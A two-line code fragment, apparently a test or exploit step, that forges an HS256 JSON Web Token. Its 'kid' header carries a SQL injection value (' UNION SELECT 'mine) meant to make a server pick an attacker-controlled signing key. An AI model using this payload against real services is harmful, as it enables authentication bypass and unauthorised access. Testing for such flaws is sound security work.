# requirement: signed with the text that comes back
queried = forge({"alg": "HS256", "kid": "' UNION SELECT 'mine"}, wanted, secret=b"yours")
